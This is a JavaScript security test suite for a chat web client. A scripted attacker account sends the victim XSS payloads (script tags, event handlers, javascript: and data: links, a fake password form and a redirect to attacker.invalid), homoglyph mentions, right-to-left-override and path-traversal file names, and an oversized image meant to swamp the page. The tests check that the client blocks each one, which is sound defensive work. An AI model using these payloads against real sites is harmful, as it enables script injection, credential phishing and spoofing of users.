// What somebody may do to others with a client of his own: texts, names and files that are made to run, to mislead or to
// swamp, and links to places that are not theirs.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { manyPixels, png } from "./pictures.mjs";
import { kPassword, openConversation, sees, signUp, Stage, story, until, write } from "./stage.mjs";

let stage;
let ann; // who is attacked
let cleo; // who is in a place that ann may not know of
let mallory; // a client without a browser
let there; // mallory's conversation with ann
let annId;
before(async () => {
  stage = await Stage.open();
  [ann, cleo] = await Promise.all(["ann", "cleo"].map((name) => stage.device(name)));
  await Promise.all([signUp(stage, ann, "ann"), signUp(stage, cleo, "cleo")]);
  mallory = await otherClient();
  await mallory.send("ann", "hello");
  await ann.click(".entry >> text=mallory");
  await sees(ann, "hello");
  ({ id: there, peer: annId } = (await mallory.overview()).find(({ peer }) => peer?.username === "ann").conversation);
});
after(async () => {
  mallory?.close();
  await stage?.close();
});
const step = story(test, () => ({ ann, cleo }));

async function otherClient() {
  process.env.NODE_NO_WARNINGS = "1";
  const { Client, NodeTransport, loadCore, openFolder } = await import("../../../packages/core/dist/node.js");
  const ca = readFileSync(`${stage.data}/ca.pem`, "utf8");
  const client = Client.open({ core: await loadCore(), store: openFolder(`${stage.root}/mallory`), key: new Uint8Array(32).fill(9), server: stage.auth, transport: new NodeTransport({ ca }) });
  await client.register({ username: "mallory", password: kPassword }, "terminal");
  await client.connect();
  return client;
}
/** What arrives by it: its element, once it is the last one. */
async function arrives(what, send) {
  const messages = ann.locator(".timeline .message");
  await messages.evaluateAll((all) => all.forEach((one) => (one.dataset.before = "")));
  await send();
  await until(() => messages.last().evaluate((one) => one.dataset.before === undefined), what);
  return messages.last();
}
const receives = (text, mentions = []) => arrives(text, () => mallory.write(there, { text, mentions }));
const receivesFile = (name, mediaType, content, more = {}) => arrives(name, () =>
  mallory.sendFiles(there, { text: "" }, [{ transfer: crypto.randomUUID(), content: new Blob([content]), name, mediaType, ...more }]));

const kRuns = [
  "<script>window.attacked=1</script>",
  "<img src=x onerror='window.attacked=1'>",
  "<svg onload='window.attacked=1'><a href='javascript:window.attacked=1'>x</a></svg>",
  "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
  "[press](javascript:window.attacked=1)",
  "[press](JaVa\tScRiPt:window.attacked=1)",
  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "<javascript:window.attacked=1>",
  "[x]: javascript:window.attacked=1\n\n[x]",
  "![x](https://attacker.invalid/track.png) <https://ok.example/'onmouseover='window.attacked=1>",
  "```\"><script>window.attacked=1</script>\n</code></pre><script>window.attacked=1</script>\n```",
  "<style>*{display:none}</style><base href=https://attacker.invalid/><meta http-equiv=refresh content='0;url=https://attacker.invalid'>",
  "<form action=https://attacker.invalid><input name=password><button>Sign in</button></form>",
  "{{constructor.constructor('window.attacked=1')()}} ${window.attacked=1}",
];

step("nothing that is written runs, loads or leads to a script", async () => {
  const asked = [];
  ann.context().on("request", (request) => asked.push(request.url()));
  for (const text of kRuns) {
    await receives(text);
  }
  const found = await ann.evaluate(() => ({
    attacked: "attacked" in window,
    foreign: [...document.querySelectorAll(".timeline :is(script, style, iframe, object, embed, base, meta, link, form, input, video, audio, img[src^='http'])")].map(({ outerHTML }) => outerHTML),
    handlers: [...document.querySelectorAll(".timeline *")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
    links: [...document.querySelectorAll(".timeline .message a[href]")].map(({ protocol, rel }) => ({ protocol, rel })),
  }));
  assert.deepEqual({ ...found, links: [] }, { attacked: false, foreign: [], handlers: [], links: [] });
  assert.ok(found.links.every(({ protocol, rel }) => ["http:", "https:", "mailto:"].includes(protocol) && /noopener.*noreferrer/.test(rel)), JSON.stringify(found.links));
  assert.deepEqual(asked.filter((url) => url.includes("attacker")), []);
  assert.deepEqual(stage.complaints, [], "the page's policy had nothing to refuse");
});

step("a name that only looks like another's mentions nobody, and turned text turns nothing beside it", async () => {
  const marked = async (text) => (await receives(text, [annId])).locator(".mention").count();
  assert.equal(await marked("hello @ann"), 1);
  assert.equal(await marked("hello @\u0430nn"), 0, "a Cyrillic letter");
  assert.equal(await marked("hello @a\u200bnn"), 0, "an invisible one");
  const turned = await receives("\u202e\u2067gnp.exe is safe");
  const around = await turned.locator(".message-text p").evaluate((one) => getComputedStyle(one).unicodeBidi);
  assert.match(around, /isolate|plaintext/);
  const preview = await ann.locator(".entry-preview").first().evaluate((one) => getComputedStyle(one).unicodeBidi);
  assert.match(preview, /isolate|plaintext/);
});

step("a picture that would swamp the page is not drawn, whatever is said of it", async () => {
  const small = { width: 40, height: 30 };
  const swamp = manyPixels(20_000, 20_000);
  assert.ok(swamp.length < 200_000, `${swamp.length} bytes`);
  const alone = await receivesFile("alone.png", "image/png", swamp, { dimensions: small });
  await alone.locator(".field-problem >> text=too many pixels").waitFor();
  const behind = await receivesFile("behind.png", "image/png", png(40, 30), { dimensions: small, thumbnail: { content: new Blob([swamp]), mediaType: "image/webp", dimensions: small } });
  await behind.locator(".field-problem >> text=too many pixels").waitFor();
  const honest = await receivesFile("honest.png", "image/png", png(40, 30), { dimensions: small });
  await honest.locator(".picture img").waitFor();
});

step("a page or a drawing with a script in it is a file to save, under a harmless name", async () => {
  const page = "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.attacked=1'><script>parent.attacked=1</script></svg>";
  for (const [name, type, shown] of [["a.svg", "image/svg+xml", "a.svg"], ["../../up.html", "text/html", /^[^/\\]*up\.html$/], ["photo\u202egnp.exe", "image/png", /^photo[^\u202e]*gnp\.exe$/], ["CON", "text/plain", /^(?!CON$)/]]) {
    const message = await receivesFile(name, type, page, { dimensions: { width: 9, height: 9 } });
    const card = message.locator(".file-card");
    await card.waitFor();
    const label = await card.locator(".file-name").innerText();
    assert.match(label, typeof shown === "string" ? new RegExp(`^${shown}$`) : shown);
    const coming = ann.waitForEvent("download");
    await card.locator("button").click();
    assert.equal((await coming).suggestedFilename(), label);
  }
  assert.equal(await ann.evaluate(() => "attacked" in window), false);
});

step("a link to a message of a place that is not one's own shows nothing of it", async () => {
  await openConversation(cleo, "mallory");
  await write(cleo, "between us two");
  await sees(cleo, "between us two", "sent");
  const place = new URL(cleo.url()).pathname;
  await cleo.locator(".message-menu").last().hover(); // the menu is made when the button is first reached
  await cleo.locator(".message-menu[aria-expanded]").last().click();
  await cleo.click(".menu-item:has-text('Copy link'):visible");
  const ref = (await cleo.evaluate(() => navigator.clipboard.readText())).split("/").pop();
  for (const path of [place, `${place}/m/${ref}`, `${place}/t/${ref}`]) {
    await ann.goto(`${stage.url}${path}`);
    await ann.waitForSelector(".link-online");
    await ann.waitForSelector("text=Nothing found");
    assert.equal(await ann.locator("text=between us two").count(), 0, path);
  }
  await ann.goto(`${stage.url}/c/${there}/m/${ref}`);
  await ann.waitForSelector(".timeline .message");
  assert.equal(await ann.locator("text=between us two").count(), 0, "under a place of one's own");
});

step("the browser had nothing to complain about", () => assert.deepEqual(stage.complaints, []));
